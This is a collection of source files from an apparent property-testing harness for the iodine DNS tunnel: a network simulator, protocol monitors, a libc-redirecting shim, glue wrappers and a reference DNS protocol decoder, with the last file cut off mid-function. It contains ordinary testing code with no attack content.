	uint64_t serial = 0;
	std::vector<Instance *> inst;
	std::priority_queue<Event> events;
	std::map<Addr, ActorFn> actors;      // exact (ip,port) endpoints owned by the harness
	Instance *current = nullptr;
	uint64_t latency_us = 1000;

	// hooks (all optional)
	std::function<void(const Datagram &)> router;        // replaces default routing of every sendto()
	std::function<void(const Datagram &)> on_send;       // observe every sendto()
	std::function<void(const Datagram &, Instance *)> on_deliver; // datagram handed to an instance socket
	std::function<void(const Datagram &, Instance *)> on_recv;    // instance actually read the datagram (recv*/recvmsg)
	std::function<void(Instance *, const Bytes &)> on_tun_write;
	std::function<void(Instance *, const Bytes &)> on_tun_read;
	std::function<void(Instance *, const std::string &)> on_system;
	std::function<void(Instance *)> on_block;            // instance went back to select()/sleep

	// receive-buffer residue: bytes [n,cap) of the caller's buffer are filled
	int residue_mode = 1;                // 0 leave, 1 constant byte, 2 pattern from residue_data (repeated)
	uint8_t residue_byte = 0xA5;
	Bytes residue_data;

	// statistics / guards
	uint64_t resumes = 0;
	uint64_t resumes_same_time = 0;
	bool livelock = false;
	uint64_t dropped_no_endpoint = 0;
	bool keep_logs = true;

	// calls made outside any instance (glue / unit shape): sendto() is captured,
	// recvfrom()/recv() is fed from `feed`
	bool capture_on = false;
	std::vector<Datagram> captured;
	std::deque<Datagram> feed;
	std::vector<std::string> unit_system;   // system() strings of calls made outside any instance

	// API
	Instance *add_instance(const std::string &name, int (*entry)(int, char **),
			       ImageRegion *image, const std::vector<std::string> &args,
			       Addr host4, Addr host6, uint32_t rand_seed);
	void reset();                         // destroy instances, restore images, clear everything
	void schedule(uint64_t t, std::function<void()> fn);
	void after(uint64_t dt, std::function<void()> fn) { schedule(now + dt, fn); }
	void run_until(uint64_t t_end);       // process events / instances up to and including t_end
	void run_for(uint64_t dt) { run_until(now + dt); }
	bool step();                          // one scheduler step; false if nothing left
	void send(const Datagram &dg);        // inject a datagram (goes through router)
	void deliver(const Datagram &dg);     // hand to destination endpoint now
	void deliver_after(const Datagram &dg, uint64_t dt);
	void offer_tun(Instance *i, const Bytes &pkt);
	Instance *find_instance_for(const Addr &dst, int *fd_out);
	time_t wall() const { return (time_t)(epoch + now / 1000000); }
};

extern World W;

// registry of program images (filled by image_*.cc glue generated at build time)
ImageRegion *make_image(char *ds, char *de, char *bs, char *be);

// helpers
std::string hex(const Bytes &b, size_t max = 64);
Bytes from_string(const std::string &s);

} // namespace sim
