// monitors.h -- boundary monitors attached to simnet runs.  A monitor observes only datagrams,
// tun reads/writes, system() strings and virtual time; it never throws inside a coroutine but
// records the first violation per property, which the property asserts afterwards.
#pragma once
#include "scenario.h"
#include <map>
#include <set>

namespace mon {
using sim::Bytes;

struct Verdict { std::string sig, why; };

struct Verdicts {
	std::map<std::string, Verdict> first;     // property id -> first violation
	void fail(const std::string &prop, const std::string &sig, const std::string &why)
	{
		if (!first.count(prop)) { first[prop] = Verdict{sig, why}; if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f   VERDICT %s %s: %s\n", sim::W.now / 1e6, prop.c_str(), sig.c_str(), why.c_str()); }
	}
	bool failed(const std::string &prop) const { return first.count(prop) != 0; }
};

struct TunEv { uint64_t t; int inst; bool write; Bytes data; };

struct Credit {
	sim::Addr src; uint16_t id; std::string name; uint16_t qtype; uint64_t t;
	bool answered = false;
	int user = -1;          // session the ping/data query names, -1 otherwise
	bool pingdata = false;
	bool forgotten = false; // the session sent a raw-mode frame afterwards: the server replaces its stored query, a DNS query still waiting is dropped, not held
};

// Everything that can be judged at the wire for one real server (+ real clients)
struct WireMonitor {
	Verdicts *v = nullptr;
	std::string domain;          // tunnel domain as the clients use it
	int srv_idx = -1;            // instance index of the real server
	std::set<int> client_idx;    // instance indices of real clients
	int client_maxlen = 255;
	bool judge_c14 = true;
	bool forwarding = false;     // server runs with -b: replies relayed from the local resolver are outside C14

	// statistics
	uint64_t n_srv_dns = 0, n_cli_dns = 0, n_raw = 0, n_answers_multi = 0, n_txt_multi = 0, n_long_q = 0, n_aux = 0;
	uint64_t n_data_answers = 0, max_frag_seen = 0, n_frag3 = 0;
	uint64_t n_dup_answered_twice = 0;
	int max_held = 0;

	std::vector<Credit> credits;
	std::map<int, int> fragsize;             // user -> F_current (absent: default 100)
	std::map<int, bool> lazy;

	void attach(sim::World &w);              // chains into on_send / on_deliver / on_block
	void on_send(const sim::Datagram &dg);
	void on_deliver(const sim::Datagram &dg, sim::Instance *to);
	void after_server_step();
	int user_of_query_name(const std::string &data) const;   // -1 if not a ping/data name
};

struct TunMonitor {
	std::vector<TunEv> ev;
	void attach(sim::World &w);
	// C01: every write equals a packet read earlier on a different instance
	bool integrity(std::string &why) const;
	std::vector<Bytes> reads_of(int inst) const;
	std::vector<TunEv> writes_of(int inst) const;
};

} // namespace mon
