// scenario.h -- building blocks shared by the simnet properties: real server + real clients with
// generated options, scripted protocol peers (refproto), fault-injecting network, packet helpers.
#pragma once
#include "simnet.h"
#include "harness.h"
#include "ref/refproto.h"
#include <memory>

namespace scn {
using sim::Bytes;

extern const sim::Addr SRV4, SRV6;

struct Config {
	std::string domain = "t.example.com";
	std::string srv_domain;            // domain given to the server ("" = same; may be a wildcard form)
	std::string password = "secret";
	int qtype = 1;                     // 0 autodetect, 1 NULL, 2 PRIVATE, 3 TXT, 4 SRV, 5 MX, 6 CNAME, 7 A
	int downenc = 0;                   // 0 unset(autodetect), 1 Base32, 2 Base64, 3 Base64u, 4 Base128, 5 Raw
	int frag = -1;                     // -1 autoprobe, else -m value
	int maxlen = 0;                    // 0 = default (255), else -M
	int lazy = 1;                      // -L
	int interval = 0;                  // -I (0 = default)
	bool raw_mode = false;             // false -> client gets -r
	int nclients = 1;
	int netmask = 27;
	std::string server_ip = "10.0.0.1";
	bool check_ip = true;              // false -> server gets -c
	int forward_port = 0;              // -b
	int mtu = 0;                       // server -m
	bool pass_env_client = false;      // password handed to the client in IODINE_PASS instead of -P
	bool pass_env_server = false;      // password handed to the server in IODINED_PASS instead of -P
	std::string decoy_env_server, decoy_env_client;   // a DIFFERENT value put into IODINED_PASS / IODINE_PASS while -P is given (-P wins)
	uint32_t srv_seed = 7, cli_seed = 11;
	sim::Addr nameserver;              // where clients send queries (default: the server itself)
	bool client_v6 = false;
	std::string describe() const;
};

struct Session {
	Config c;
	sim::Instance *srv = nullptr;
	sim::Instance *cli[3] = {nullptr, nullptr, nullptr};
	explicit Session(const Config &cfg);   // resets the world; hooks may be installed afterwards
	void start_server();
	void start_client(int k);
	void start() { start_server(); for (int k = 0; k < c.nclients; k++) start_client(k); }
	bool client_up(int k) const;           // reached the tunnel loop and still running
	bool wait_handshake(int k, int max_seconds);
	bool wait_all(int max_seconds);
	sim::Addr client_addr(int k) const;
	// tunnel addresses (network byte order bytes)
	Bytes server_tun_ip() const;
	Bytes client_tun_ip(int slot) const;   // address the server assigns to slot `slot` (mirrors the documented pool rule)
};

// IPv4-looking packet as read from / written to a Linux tun device: 4-byte header 00 00 08 00 + payload
Bytes tun_packet(const Bytes &dst_ip4, const Bytes &src_ip4, const Bytes &body, uint16_t ident);
Bytes gen_packet(hz::Tape &t, const Bytes &dst_ip4, const Bytes &src_ip4, uint16_t ident, size_t maxbody = 1400);

// ---- fault-injecting network: per-datagram decisions read from the tape
struct FaultNet {
	hz::Tape *tape = nullptr;
	bool active = false;               // when false every datagram is delivered after the base latency
	uint32_t p_drop = 0, p_dup = 0, p_delay = 0;   // per-mille
	uint64_t max_delay_us = 3000000;
	uint64_t n_drop = 0, n_dup = 0, n_delay = 0, n_total = 0;
	std::function<bool(const sim::Datagram &)> filter;   // optional: only datagrams for which this is true are faulted
	std::function<void(const sim::Datagram &, int /*0 deliver,1 drop,2 dup,3 delay*/)> on_decision;
	void install();                     // becomes sim::W.router
};

// ---- scripted protocol peer (client side), an actor on the simulated network
struct Rx {
	uint64_t t;
	sim::Datagram dg;
	refproto::Answer ans;
	bool is_raw = false;
};

struct SentQ { uint64_t t; uint16_t id; std::string name; uint16_t qtype; sim::Addr src; Bytes dgram; };

struct ScriptClient {
	std::vector<SentQ> sent;            // every query sent through send_name()
	sim::Addr addr;                     // own (ip, port)
	sim::Addr server = sim::Addr();
	std::string domain;
	Bytes password;
	int qtype_k = 1;
	bool edns0 = true;
	int userid = -1;
	uint32_t challenge = 0;
	bool have_challenge = false;
	uint16_t next_id = 100;
	uint16_t cmc = 1;
	int up_codec = 0;                   // codec used for upstream data chunks
	std::vector<Rx> inbox;
	// downstream reassembly
	int dn_seq = 0, dn_frag = 0;
	Bytes dn_buf;
	std::vector<Bytes> received;        // inflated packets
	// upstream state
	int up_seq = 0;
	int data_cmc = 0;
	std::string tun_ip_text;            // from the login reply
	std::string server_ip_text;

	void attach();                      // register as actor
	uint16_t send_name(const std::string &name, int id = -1, int qtype_override = -1);
	void send_raw(const Bytes &frame);
	const Rx *answer_for(uint16_t id, size_t from_index = 0) const;
	const Rx *wait_answer(uint16_t id, uint64_t max_us = 50000);
	// honest protocol steps (each sends, lets the world run, and interprets the answer)
	bool do_version();
	bool do_login();
	bool do_option(char opt);
	bool do_switch_codec(int bits);
	bool do_set_fragsize(int f);
	bool handshake(bool lazy, int frag, char downenc = 0, int upbits = 0);
	uint16_t send_ping(int id = -1);
	// sends one upstream packet as a sequence of chunks, acking downstream as it goes; returns #queries used
	int send_packet(const Bytes &tun_pkt, size_t chunk_bytes);
	void absorb(const Rx &rx);          // feed a data/ping answer into the downstream reassembly
};

std::string fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));

} // namespace scn
