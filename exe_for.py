#!/usr/bin/env python3
"""exe_for.py <PROP> -- print the path of the property binary built from the current /repo working tree (development aid)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import vbuild
from props_table import PROPS
P = PROPS[sys.argv[1]]
print(vbuild.build_binary(P['bin'], P['sources'], P.get('flavour', 'rc'), unit_objs=P.get('unit_objs', ()), images=P.get('images', ()), rapidcheck=True))
