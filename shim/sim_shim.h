/*
 * sim_shim.h -- force-included (clang -include) in front of every /repo/src/*.c
 * when the harness builds iodine / iodined for verification.
 *
 * It first pulls in every system header the sources use (they are include-
 * guarded, so the later #include lines in the sources become no-ops) and then
 * defines FUNCTION-LIKE macros that redirect the libc / syscall surface of the
 * two programs to the deterministic simulator (sim/simnet.cc).  Function-like
 * macros rewrite call sites only: local variables called `read` or `time`
 * are untouched.
 *
 * Nothing in /repo is modified; IODINE_VERIF is defined on the harness compile
 * line only.
 */
#ifndef SIM_SHIM_H
#define SIM_SHIM_H

#include <sys/types.h>
#include <sys/param.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/socket.h>
#include <sys/select.h>
#include <sys/uio.h>
#include <sys/ioctl.h>
#include <ctype.h>
#include <stdio.h>
#include <stdint.h>
#include <stdbool.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <strings.h>
#include <signal.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <time.h>
#include <err.h>
#include <netdb.h>
#include <syslog.h>
#include <termios.h>
#include <grp.h>
#include <pwd.h>
#include <netinet/in.h>
#include <netinet/in_systm.h>
#include <netinet/ip.h>
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <net/if.h>
#include <linux/if_tun.h>
#include <zlib.h>

#ifdef __cplusplus
extern "C" {
#endif

int     sim_socket(int domain, int type, int protocol);
int     sim_bind(int fd, const struct sockaddr *addr, socklen_t len);
int     sim_setsockopt(int fd, int level, int name, const void *val, socklen_t len);
int     sim_fcntl(int fd, int cmd, ...);
int     sim_open(const char *path, int flags, ...);
int     sim_ioctl(int fd, unsigned long req, ...);
ssize_t sim_read(int fd, void *buf, size_t len);
ssize_t sim_write(int fd, const void *buf, size_t len);
int     sim_close(int fd);
int     sim_select(int nfds, fd_set *r, fd_set *w, fd_set *e, struct timeval *tv);
ssize_t sim_recv(int fd, void *buf, size_t len, int flags);
ssize_t sim_recvfrom(int fd, void *buf, size_t len, int flags,
		     struct sockaddr *from, socklen_t *fromlen);
ssize_t sim_recvmsg(int fd, struct msghdr *msg, int flags);
ssize_t sim_sendto(int fd, const void *buf, size_t len, int flags,
		   const struct sockaddr *to, socklen_t tolen);
time_t  sim_time(time_t *t);
unsigned sim_sleep(unsigned s);
int     sim_rand(void);
void    sim_srand(unsigned s);
int     sim_system(const char *cmd);
void    sim_exit(int code) __attribute__((noreturn));
void    sim_err(int code, const char *fmt, ...) __attribute__((noreturn));
void    sim_errx(int code, const char *fmt, ...) __attribute__((noreturn));
void    sim_warn(const char *fmt, ...);
void    sim_warnx(const char *fmt, ...);
uid_t   sim_geteuid(void);
char   *sim_getenv(const char *name);
int     sim_getaddrinfo(const char *node, const char *service,
			const struct addrinfo *hints, struct addrinfo **res);
void    sim_freeaddrinfo(struct addrinfo *res);
void   *sim_calloc(size_t n, size_t sz);
char   *sim_strdup(const char *s);
void    sim_free(void *p);
int     sim_fprintf(FILE *f, const char *fmt, ...);
int     sim_fflush(FILE *f);
void    sim_syslog(int prio, const char *fmt, ...);
void    sim_openlog(const char *ident, int opt, int fac);
int     sim_daemon(int a, int b);
void  (*sim_signal(int sig, void (*h)(int)))(int);
mode_t  sim_umask(mode_t m);
unsigned sim_alarm(unsigned s);

#ifdef __cplusplus
}
#endif

#ifndef SIM_SHIM_NO_MACROS
#define socket(a,b,c)            sim_socket(a,b,c)
#define bind(a,b,c)              sim_bind(a,b,c)
#define setsockopt(a,b,c,d,e)    sim_setsockopt(a,b,c,d,e)
#define fcntl(...)               sim_fcntl(__VA_ARGS__)
#define open(...)                sim_open(__VA_ARGS__)
#define ioctl(...)               sim_ioctl(__VA_ARGS__)
#define read(a,b,c)              sim_read(a,b,c)
#define write(a,b,c)             sim_write(a,b,c)
#define close(a)                 sim_close(a)
#define select(a,b,c,d,e)        sim_select(a,b,c,d,e)
#define recv(a,b,c,d)            sim_recv(a,b,c,d)
#define recvfrom(a,b,c,d,e,f)    sim_recvfrom(a,b,c,d,e,f)
#define recvmsg(a,b,c)           sim_recvmsg(a,b,c)
#define sendto(a,b,c,d,e,f)      sim_sendto(a,b,c,d,e,f)
#define time(a)                  sim_time(a)
#define sleep(a)                 sim_sleep(a)
#define rand()                   sim_rand()
#define srand(a)                 sim_srand(a)
#define system(a)                sim_system(a)
#define exit(a)                  sim_exit(a)
#define err(...)                 sim_err(__VA_ARGS__)
#define errx(...)                sim_errx(__VA_ARGS__)
#define warn(...)                sim_warn(__VA_ARGS__)
#define warnx(...)               sim_warnx(__VA_ARGS__)
#define geteuid()                sim_geteuid()
#define getenv(a)                sim_getenv(a)
#define getaddrinfo(a,b,c,d)     sim_getaddrinfo(a,b,c,d)
#define freeaddrinfo(a)          sim_freeaddrinfo(a)
#define calloc(a,b)              sim_calloc(a,b)
#define strdup(a)                sim_strdup(a)
#define free(a)                  sim_free(a)
#define fprintf(...)             sim_fprintf(__VA_ARGS__)
#define fflush(a)                sim_fflush(a)
#define syslog(...)              sim_syslog(__VA_ARGS__)
#define openlog(a,b,c)           sim_openlog(a,b,c)
#define daemon(a,b)              sim_daemon(a,b)
#define signal(a,b)              sim_signal(a,b)
#define umask(a)                 sim_umask(a)
#define alarm(a)                 sim_alarm(a)
#endif

#endif /* SIM_SHIM_H */
