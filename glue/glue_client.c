/*
 * glue_client.c -- compiled with the same shim and flags as the repository
 * sources and -I<repo>/src.  It textually includes the working tree's
 * client.c so that the *static* reply reader can be fed arbitrary datagrams
 * (anchor of C09 / C12).
 *
 * Trusted-base item: the signature
 *     static int read_dns_withq(int dns_fd, int tun_fd, char *buf,
 *                               int buflen, struct query *q);
 */
#include "client.c"

int verif_client_read(int dns_fd, char *buf, int buflen, unsigned short *qtype,
		      unsigned short *qid, char *name0, unsigned short *rcode);

int verif_client_read(int dns_fd, char *buf, int buflen, unsigned short *qtype,
		      unsigned short *qid, char *name0, unsigned short *rcode)
{
	struct query q;
	int rv;

	client_init();	/* conn = CONN_DNS_NULL */
	memset(&q, 0, sizeof(q));
	rv = read_dns_withq(dns_fd, -1, buf, buflen, &q);
	if (qtype) *qtype = q.type;
	if (qid) *qid = q.id;
	if (name0) *name0 = q.name[0];
	if (rcode) *rcode = q.rcode;
	return rv;
}
