// unit_api.h -- C++ view of glue/unit_api.c (stable ABI over the repository's public entry points)
#pragma once
#include <cstddef>
#include <cstdint>
extern "C" {
int v_encode(int c, char *buf, size_t *buflen, const void *data, size_t len);
int v_decode(int c, void *buf, size_t *buflen, const char *str, size_t slen);
int v_blk_raw(int c);
int v_blk_enc(int c);
int v_places_dots(int c);
int v_eats_dots(int c);
const char *v_codec_name(int c);
int v_b32_5to8(int v);
int v_b32_8to5(int v);
int v_build_hostname(int c, char *buf, size_t buflen, const char *data, size_t datalen, const char *topdomain, int maxlen);
int v_unpack_data(int c, char *buf, size_t buflen, char *data, size_t datalen);
int v_inline_dotify(char *buf, size_t buflen);
int v_inline_undotify(char *buf, size_t len);
int v_check_topdomain(char *s, int allow_wildcard);
int v_query_datalen(const char *qname, const char *topdomain);
void v_login_calculate(char *buf, int buflen, const char *pass, int seed);
int v_recent_seqno(int a, int b);
int v_dns_encode_query(char *buf, size_t buflen, unsigned short id, unsigned short type, const char *name, int edns0);
int v_dns_encode_answer(char *buf, size_t buflen, unsigned short id, unsigned short type, const char *qname, const char *data, size_t datalen);
int v_dns_decode(char *buf, size_t buflen, int answer, char *packet, size_t packetlen, char *name_out, unsigned short *type, unsigned short *id, unsigned short *rcode);
int v_init_users(uint32_t my_ip_net, int netbits);
int v_user_count_max(void);
uint32_t v_user_ip(int i);
int v_user_id(int i);
void v_user_set(int i, int active, int authenticated, int disabled, long last_pkt);
int v_find_user_by_ip(uint32_t ip_net);
int v_find_available_user(void);
int v_user_active(int i);
int v_user_authenticated(int i);
long v_user_last_pkt(int i);
void v_users_free(void);
int v_all_users_waiting_to_send(void);
void v_fw_init(void);
void v_fw_put(unsigned short id, const void *addr, int addrlen);
int v_fw_get(unsigned short id, void *addr_out, int *addrlen_out);
// program-image glue (static functions of iodined.c / client.c)
int verif_write_dns(int fd, unsigned short qtype, unsigned short qid, const char *qname, const char *data, int datalen, char downenc);
int verif_client_read(int dns_fd, char *buf, int buflen, unsigned short *qtype, unsigned short *qid, char *name0, unsigned short *rcode);
}
