/*
 * glue_server.c -- compiled with the same shim and flags as the repository
 * sources, -Dmain=iodined_glue_main and -I<repo>/src.  It textually includes
 * the working tree's iodined.c so that the *static* answer writer can be
 * called with arbitrary arguments (anchor of C09 / C10).
 *
 * Trusted-base item: the signature
 *     static void write_dns(int fd, struct query *q, const char *data,
 *                           int datalen, char downenc);
 */
#include "iodined.c"

int verif_write_dns(int fd, unsigned short qtype, unsigned short qid,
		    const char *qname, const char *data, int datalen, char downenc);

int verif_write_dns(int fd, unsigned short qtype, unsigned short qid,
		    const char *qname, const char *data, int datalen, char downenc)
{
	struct query q;
	struct sockaddr_in *sin;

	memset(&q, 0, sizeof(q));
	q.type = qtype;
	q.id = qid;
	strncpy(q.name, qname, sizeof(q.name) - 1);
	sin = (struct sockaddr_in *) &q.from;
	sin->sin_family = AF_INET;
	sin->sin_port = htons(5353);
	sin->sin_addr.s_addr = htonl(0x7f000001);
	q.fromlen = sizeof(*sin);
	write_dns(fd, &q, data, datalen, downenc);
	return 0;
}
