/*
 * unit_api.c -- stable C ABI over the repository's PUBLIC entry points, compiled
 * with the repository's headers from the current working tree.  The C++ harness
 * never includes repository headers; it calls these wrappers ("unit shape").
 */
#include <stdint.h>
#include <string.h>
#include <stdlib.h>
#include "common.h"
#include "encoding.h"
#include "dns.h"
#include "read.h"
#include "login.h"
#include "user.h"
#include "fw_query.h"

static const struct encoder *codec(int c)
{
	switch (c) {
	case 0: return &base32_ops;
	case 1: return &base64_ops;
	case 2: return &base64u_ops;
	default: return &base128_ops;
	}
}

int v_encode(int c, char *buf, size_t *buflen, const void *data, size_t len);
int v_decode(int c, void *buf, size_t *buflen, const char *str, size_t slen);
int v_blk_raw(int c);
int v_blk_enc(int c);
int v_places_dots(int c);
int v_eats_dots(int c);
const char *v_codec_name(int c);
int v_b32_5to8(int v);
int v_b32_8to5(int v);
int v_build_hostname(int c, char *buf, size_t buflen, const char *data, size_t datalen,
		     const char *topdomain, int maxlen);
int v_unpack_data(int c, char *buf, size_t buflen, char *data, size_t datalen);
int v_inline_dotify(char *buf, size_t buflen);
int v_inline_undotify(char *buf, size_t len);
int v_check_topdomain(char *s, int allow_wildcard);
int v_query_datalen(const char *qname, const char *topdomain);
void v_login_calculate(char *buf, int buflen, const char *pass, int seed);
int v_recent_seqno(int a, int b);

int v_encode(int c, char *buf, size_t *buflen, const void *data, size_t len) { return codec(c)->encode(buf, buflen, data, len); }
int v_decode(int c, void *buf, size_t *buflen, const char *str, size_t slen) { return codec(c)->decode(buf, buflen, str, slen); }
int v_blk_raw(int c) { return codec(c)->blocksize_raw; }
int v_blk_enc(int c) { return codec(c)->blocksize_encoded; }
int v_places_dots(int c) { return codec(c)->places_dots; }
int v_eats_dots(int c) { return codec(c)->eats_dots; }
const char *v_codec_name(int c) { return codec(c)->name; }
int v_b32_5to8(int v) { return b32_5to8(v); }
int v_b32_8to5(int v) { return b32_8to5(v); }
int v_build_hostname(int c, char *buf, size_t buflen, const char *data, size_t datalen,
		     const char *topdomain, int maxlen)
{
	return build_hostname(buf, buflen, data, datalen, topdomain, codec(c), maxlen);
}
int v_unpack_data(int c, char *buf, size_t buflen, char *data, size_t datalen)
{
	return unpack_data(buf, buflen, data, datalen, codec(c));
}
int v_inline_dotify(char *buf, size_t buflen) { return inline_dotify(buf, buflen); }
int v_inline_undotify(char *buf, size_t len) { return inline_undotify(buf, len); }
int v_check_topdomain(char *s, int allow_wildcard) { char *e = NULL; return check_topdomain(s, allow_wildcard, &e); }
int v_query_datalen(const char *qname, const char *topdomain) { return query_datalen(qname, topdomain); }
void v_login_calculate(char *buf, int buflen, const char *pass, int seed) { login_calculate(buf, buflen, pass, seed); }
int v_recent_seqno(int a, int b) { return recent_seqno(a, b); }

/* ---- dns ---- */
int v_dns_encode_query(char *buf, size_t buflen, unsigned short id, unsigned short type,
		       const char *name, int edns0);
int v_dns_encode_answer(char *buf, size_t buflen, unsigned short id, unsigned short type,
			const char *qname, const char *data, size_t datalen);
int v_dns_decode(char *buf, size_t buflen, int answer, char *packet, size_t packetlen,
		 char *name_out /*256*/, unsigned short *type, unsigned short *id, unsigned short *rcode);

int v_dns_encode_query(char *buf, size_t buflen, unsigned short id, unsigned short type,
		       const char *name, int edns0)
{
	struct query q;
	int old = dnsc_use_edns0, r;
	memset(&q, 0, sizeof(q));
	q.id = id; q.type = type;
	dnsc_use_edns0 = edns0;
	r = dns_encode(buf, buflen, &q, QR_QUERY, name, strlen(name));
	dnsc_use_edns0 = old;
	return r;
}
int v_dns_encode_answer(char *buf, size_t buflen, unsigned short id, unsigned short type,
			const char *qname, const char *data, size_t datalen)
{
	struct query q;
	memset(&q, 0, sizeof(q));
	q.id = id; q.type = type;
	strncpy(q.name, qname, sizeof(q.name) - 1);
	return dns_encode(buf, buflen, &q, QR_ANSWER, data, datalen);
}
int v_dns_decode(char *buf, size_t buflen, int answer, char *packet, size_t packetlen,
		 char *name_out, unsigned short *type, unsigned short *id, unsigned short *rcode)
{
	struct query q;
	int r;
	memset(&q, 0, sizeof(q));
	r = dns_decode(buf, buflen, &q, answer ? QR_ANSWER : QR_QUERY, packet, packetlen);
	if (name_out) memcpy(name_out, q.name, sizeof(q.name));
	if (type) *type = q.type;
	if (id) *id = q.id;
	if (rcode) *rcode = q.rcode;
	return r;
}

/* ---- users ---- */
int v_init_users(uint32_t my_ip_net, int netbits);
int v_user_count_max(void);
uint32_t v_user_ip(int i);
int v_user_id(int i);
void v_user_set(int i, int active, int authenticated, int disabled, long last_pkt);
int v_find_user_by_ip(uint32_t ip_net);
int v_find_available_user(void);
int v_user_active(int i);
int v_user_authenticated(int i);
long v_user_last_pkt(int i);
void v_users_free(void);
int v_all_users_waiting_to_send(void);

static int v_usercount;
int v_init_users(uint32_t my_ip_net, int netbits) { v_usercount = init_users(my_ip_net, netbits); return v_usercount; }
int v_user_count_max(void) { return USERS; }
uint32_t v_user_ip(int i) { return users[i].tun_ip; }
int v_user_id(int i) { return users[i].id; }
void v_user_set(int i, int active, int authenticated, int disabled, long last_pkt)
{
	users[i].active = active; users[i].authenticated = authenticated;
	users[i].disabled = disabled; users[i].last_pkt = (time_t) last_pkt;
}
int v_find_user_by_ip(uint32_t ip_net) { return find_user_by_ip(ip_net); }
int v_find_available_user(void) { return find_available_user(); }
int v_user_active(int i) { return users[i].active; }
int v_user_authenticated(int i) { return users[i].authenticated; }
long v_user_last_pkt(int i) { return (long) users[i].last_pkt; }
void v_users_free(void) { if (users) free(users); users = NULL; }
int v_all_users_waiting_to_send(void) { return all_users_waiting_to_send(); }

/* ---- forwarded query table ---- */
void v_fw_init(void);
void v_fw_put(unsigned short id, const void *addr, int addrlen);
int v_fw_get(unsigned short id, void *addr_out, int *addrlen_out);
void v_fw_init(void) { fw_query_init(); }
void v_fw_put(unsigned short id, const void *addr, int addrlen)
{
	struct fw_query q;
	memset(&q, 0, sizeof(q));
	memcpy(&q.addr, addr, addrlen);
	q.addrlen = addrlen;
	q.id = id;
	fw_query_put(&q);
}
int v_fw_get(unsigned short id, void *addr_out, int *addrlen_out)
{
	struct fw_query *q = NULL;
	fw_query_get(id, &q);
	if (!q) return 0;
	memcpy(addr_out, &q->addr, q->addrlen);
	*addrlen_out = q->addrlen;
	return 1;
}
