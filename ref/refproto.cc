// refproto.cc -- see refproto.h
#include "refproto.h"
#include <algorithm>
#include <cstring>
#include <zlib.h>

namespace refproto {
using namespace refdns;

uint16_t qtype_of(int k)
{
	switch (k) {
	case 1: return refdns::T_NULL; case 2: return (uint16_t)refdns::T_PRIVATE; case 3: return refdns::T_TXT;
	case 4: return refdns::T_SRV; case 5: return refdns::T_MX; case 6: return refdns::T_CNAME; case 7: return refdns::T_A;
	}
	return refdns::T_NULL;
}
const char *qtype_name(int k)
{
	static const char *n[] = {"auto", "NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"};
	return (k >= 0 && k <= 7) ? n[k] : "?";
}

static int codec_of_prefix(char p, bool *hostname, bool *raw)
{
	*hostname = false; *raw = false;
	switch (p) {
	case 't': case 'T': return 0;
	case 's': case 'S': return 1;
	case 'u': case 'U': return 2;
	case 'v': case 'V': return 3;
	case 'r': case 'R': *raw = true; return 0;
	case 'h': case 'H': *hostname = true; return 0;
	case 'i': case 'I': *hostname = true; return 1;
	case 'j': case 'J': *hostname = true; return 2;
	case 'k': case 'K': *hostname = true; return 3;
	}
	return -1;
}

bool decode_query(const Bytes &dgram, const std::string &domain, Query &q, std::string *why)
{
	q = Query();
	Msg m;
	std::string e = parse(dgram, m);
	if (!e.empty()) { if (why) *why = e; return false; }
	if (m.qr() || m.q.size() != 1) { if (why) *why = "not a single-question query"; return false; }
	q.id = m.id; q.qtype = m.q[0].type;
	q.edns0 = false;
	for (auto &r : m.additional) if (r.type == refdns::T_OPT) q.edns0 = true;
	q.name = m.q[0].name.dotted();
	int d = ref::match_datalen(q.name, domain);
	if (d < 0) { if (why) *why = "name not under the tunnel domain"; return false; }
	q.data = q.name.substr(0, d);
	if (!q.data.empty()) {
		q.cmd = q.data[0];
		q.rest = q.data.substr(1);
		if (!q.rest.empty() && q.rest.back() == '.') q.rest.pop_back();
	}
	q.ok = true;
	return true;
}

bool query_ack(const Query &q, QAck &a)
{
	a = QAck();
	if (!q.ok || q.data.size() < 2) return false;
	char c = q.cmd;
	if (c == 'p' || c == 'P') {
		Bytes b = ref::codec_decode(0, q.rest, true);
		if (b.size() < 4) return false;
		a.is_ping = true; a.user = (int)(int8_t)b[0]; a.dn_seq = (b[1] >> 4) & 7; a.dn_frag = b[1] & 15;
		return true;
	}
	int code = -1;
	if (c >= '0' && c <= '9') code = c - '0';
	else if (c >= 'a' && c <= 'f') code = c - 'a' + 10;
	else if (c >= 'A' && c <= 'F') code = c - 'A' + 10;
	if (code < 0 || q.data.size() < 6) return false;
	int v1 = ref::b32_value((unsigned char)q.data[1]), v2 = ref::b32_value((unsigned char)q.data[2]), v3 = ref::b32_value((unsigned char)q.data[3]);
	if (v1 < 0 || v2 < 0 || v3 < 0) return false;
	a.is_data = true; a.user = code;
	a.up_seq = (v1 >> 2) & 7; a.up_frag = ((v1 & 3) << 2) | ((v2 >> 3) & 3);
	a.dn_seq = v2 & 7; a.dn_frag = v3 >> 1; a.last = v3 & 1;
	return true;
}

static bool decode_hostname(const std::string &host, char *prefix, Bytes &out, std::string &err)
{
	// "<prefix><encoded with dots>.<xy>"
	if (host.size() < 5) { err = "hostname answer shorter than 5 characters"; return false; }
	bool hn, raw; int c = codec_of_prefix(host[0], &hn, &raw);
	if (c < 0 || !hn) { err = "hostname answer with unknown codec prefix"; return false; }
	*prefix = host[0];
	std::string body = host.substr(1, host.size() - 4);
	out = ref::codec_decode(c, body, true);
	return true;
}

bool decode_answer(const Bytes &dgram, Answer &a)
{
	a = Answer();
	std::string e = parse(dgram, a.msg);
	if (!e.empty()) { a.err = "malformed: " + e; return false; }
	const Msg &m = a.msg;
	a.id = m.id; a.rcode = m.rcode(); a.ancount = m.an;
	if (!m.qr()) { a.err = "QR bit not set"; return false; }
	if (m.q.size() != 1) { a.err = "no single question"; return false; }
	a.qtype = m.q[0].type; a.qname = m.q[0].name.dotted();
	if (m.answers.empty()) { a.err = "no answer records"; return false; }
	uint16_t t = a.qtype;
	if (t == refdns::T_NULL || t == refdns::T_PRIVATE) {
		a.payload = m.answers[0].rdata;
		a.ok = true;
		return true;
	}
	if (t == refdns::T_TXT) {
		const RR &r = m.answers[0];
